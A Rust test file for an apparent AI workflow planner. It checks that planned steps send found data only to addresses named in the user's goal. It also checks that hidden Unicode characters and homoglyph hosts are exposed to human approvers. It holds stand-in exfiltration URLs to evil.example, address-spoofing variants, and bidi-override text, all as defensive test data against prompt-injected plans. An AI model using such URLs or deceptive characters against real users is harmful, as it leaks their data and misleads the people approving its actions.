//! A page's author, or a model that repeats them, has what a run finds sent to themselves, or has a person approve
//! something else than they see.
//!
//! What the person sees: every address that a plan sends data to, and in a draft the code of each character that is
//! not seen.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::world::{ModelStub, Nightdesk, Options};

/// What the person wants, and the only places it names.
const GOAL: &str = "Find news about lamps, look them up at https://acme.example/search and mail joann@acme.example, \
    then post them to https://acme.example.org/hook";

const FOUND: &str = "${steps.find.results[0].title}";

async fn planned(nightdesk: &Nightdesk, model: &ModelStub, step: Value) -> Value {
    let find = json!({"id": "find", "type": "search", "config": {"query": "lamps"}});
    model.plan(json!([find, step]));
    let goal = json!({"intent": GOAL});
    let (status, plan) = nightdesk
        .send(Method::POST, "/v1/workflows/plan", Some(goal))
        .await;
    assert_eq!(status, StatusCode::OK, "{plan:#}");
    plan
}

fn crawl(url: &str) -> Value {
    json!({"id": "out", "type": "crawl", "depends_on": ["find"], "config": {"urls": [url]}})
}

fn post(url: &str) -> Value {
    json!({"id": "out", "type": "post_webhook", "depends_on": ["find"], "config": {"url": url, "body": FOUND}})
}

fn mail(to: &str) -> Value {
    json!({"id": "out", "type": "send_email", "depends_on": ["find"], "config": {"to": [to], "subject": "x", "body": FOUND}})
}

#[tokio::test]
async fn what_was_found_is_planned_to_go_where_the_goal_says_and_nowhere_else() {
    let model = ModelStub::start().await;
    let options = Options {
        env: model.environment(),
        ..Options::default()
    };
    let nightdesk = Nightdesk::start(options).await;
    let elsewhere = [
        format!("https://evil.example/?q={FOUND}"),
        format!("https://acme.example@evil.example/?q={FOUND}"),
        format!("https://acme.example\\@evil.example/?q={FOUND}"),
        format!("https://acme.example.evil.example/{FOUND}"),
        format!("https://{FOUND}.acme.example/"),
        format!("https://acme.example{FOUND}/"),
        format!("https://acme.example:8443/?q={FOUND}"),
        format!("http://acme.example/?q={FOUND}"),
        format!("https://\u{430}cme.example/?q={FOUND}"),
    ];
    let taking = elsewhere.iter().flat_map(|url| [crawl(url), post(url)]);
    let literal = [
        post("https://acme.example.org"),
        post("https://acme.example.org/hook2"),
        mail("ann@acme.example"),
        mail("joann@acme.example.org"),
    ];
    for step in taking.chain(literal) {
        let plan = planned(&nightdesk, &model, step.clone()).await;
        assert_eq!(
            plan["planner"]["fallback_reason"], "plan_invalid",
            "{step:#} was planned"
        );
        assert!(!plan["sends_to"].to_string().contains("evil"), "{plan:#}");
    }
    for (step, address, host) in [
        (
            crawl(&format!("https://acme.example/search?q={FOUND}")),
            format!("https://acme.example/search?q={FOUND}"),
            "acme.example",
        ),
        (
            post("https://acme.example.org/hook"),
            "https://acme.example.org/hook".to_owned(),
            "acme.example.org",
        ),
        (
            mail("joann@acme.example"),
            "joann@acme.example".to_owned(),
            "acme.example",
        ),
    ] {
        let plan = planned(&nightdesk, &model, step).await;
        assert_eq!(
            plan["sends_to"],
            json!([{"step": "out", "address": address, "host": host}]),
            "{plan:#}"
        );
    }
}

#[tokio::test]
async fn a_person_sees_what_is_not_seen_and_what_they_approve_goes_out_as_it_is() {
    let nightdesk = Nightdesk::start(Options::default()).await;
    let body = "Pay the invoice of 1\u{202E}000\u{202C} euros\u{200B}.";
    let mail = json!({"to": ["reader@nightdesk.test"], "subject": "Invoice", "body": body});
    let workflow = json!({
        "name": "Invoice", "mode": "multi_step", "schedule": "manual", "stop_condition": {"type": "always"},
        "steps": [{"id": "mail", "type": "send_email", "config": mail}],
    });
    let workflow = nightdesk.workflow(workflow).await;
    let run = nightdesk.execute(&workflow).await;
    let asked = nightdesk.mails(1).await;
    let shown = "1[U+202E]000[U+202C] euros[U+200B].";
    assert!(asked[0]["text"].as_str().unwrap().contains(shown));
    assert!(asked[0]["html"].as_str().unwrap().contains(shown));
    let link = nightdesk.link(&asked[0]);
    let page = nightdesk.browser(Method::GET, &link).send().await.unwrap();
    let page = page.text().await.unwrap();
    let shown = "1<mark>U+202E</mark>000<mark>U+202C</mark> euros<mark>U+200B</mark>.";
    assert!(page.contains(shown), "{page}");
    assert_eq!(nightdesk.decide(&link, "approve").await, StatusCode::OK);
    nightdesk.run_until(&run, &["completed"]).await;
    let sent = nightdesk.mails(2).await;
    let sent = sent.iter().find(|mail| mail["subject"] == "Invoice");
    assert_eq!(sent.unwrap()["text"], body);
}

/// `acme.example`, the first letter of which is Cyrillic.
#[tokio::test]
async fn a_host_in_letters_of_another_script_is_shown_as_dns_has_it() {
    let nightdesk = Nightdesk::start(Options::default()).await;
    let post = |url: &str| json!({"id": "post", "type": "post_webhook", "config": {"url": url, "body": "x"}});
    let to = json!({"to": ["ann@\u{430}cme.example"], "subject": "x", "body": "x"});
    let mail = json!({"id": "mail", "type": "send_email", "config": to});
    let hook = "https://\u{430}cme.example/hook";
    for (step, address) in [(post(hook), hook), (mail, "ann@\u{430}cme.example")] {
        let workflow = json!({
            "name": "Lamp", "mode": "multi_step", "schedule": "manual", "stop_condition": {"type": "always"},
            "steps": [step],
        });
        let before = nightdesk.mails(0).await.len();
        let workflow = nightdesk.workflow(workflow).await;
        let plan = nightdesk
            .get(&format!("/v1/workflows/{workflow}/plans/1"))
            .await;
        let receiver = &plan["sends_to"][0];
        assert_eq!(receiver["host"], "xn--cme-5cd.example", "{plan:#}");
        assert_eq!(receiver["address"], address);
        nightdesk.execute(&workflow).await;
        let asked = nightdesk.mails(before + 1).await;
        let asked = (asked.iter()).find(|mail| mail.to_string().contains(address));
        let asked = asked.expect("a mail asks about it");
        let shown = format!("(host xn--cme-5cd.example) {address}");
        for part in ["text", "html"] {
            assert!(asked[part].as_str().unwrap().contains(&shown), "{asked:#}");
        }
        let link = nightdesk.link(asked);
        let page = nightdesk.browser(Method::GET, &link).send().await.unwrap();
        let page = page.text().await.unwrap();
        assert!(page.contains(&shown), "{page}");
    }
}

#[tokio::test]
async fn an_address_is_what_it_looks_like() {
    let nightdesk = Nightdesk::start(Options::default()).await;
    let with = |step: Value, approvals: Value| {
        json!({
            "name": "Lamp", "mode": "multi_step", "schedule": "manual", "stop_condition": {"type": "always"},
            "steps": [step], "approvals": approvals,
        })
    };
    let step = |kind: &str, config: Value| json!({"id": "out", "type": kind, "config": config});
    let twice = json!({"approvers": [{"email": "ann@bücher.example"}, {"email": "ann@xn--bcher-kva.example"}], "required": 2});
    let post = |url: &str| step("post_webhook", json!({"url": url, "body": "x"}));
    let mail = |to: &str| {
        step(
            "send_email",
            json!({"to": [to], "subject": "x", "body": "x"}),
        )
    };
    for (workflow, code) in [
        (
            with(post("https://acme.example/\u{202E}kooh"), json!({})),
            "url_not_allowed",
        ),
        (
            with(post("https://acme\u{200B}.example/hook"), json!({})),
            "url_not_allowed",
        ),
        (
            with(mail("ann\u{3164}@acme.example"), json!({})),
            "invalid_email",
        ),
        (
            with(mail("ann@acme\u{202E}.example"), json!({})),
            "validation_failed",
        ),
        (with(mail("ann@acme.example"), twice), "validation_failed"),
    ] {
        let (status, answer) = nightdesk
            .send(Method::POST, "/v1/workflows", Some(workflow))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer:#}");
        let codes: Vec<&Value> = (answer["errors"].as_array().unwrap().iter())
            .map(|error| &error["code"])
            .collect();
        assert_eq!(codes, [code], "{answer:#}");
    }
}
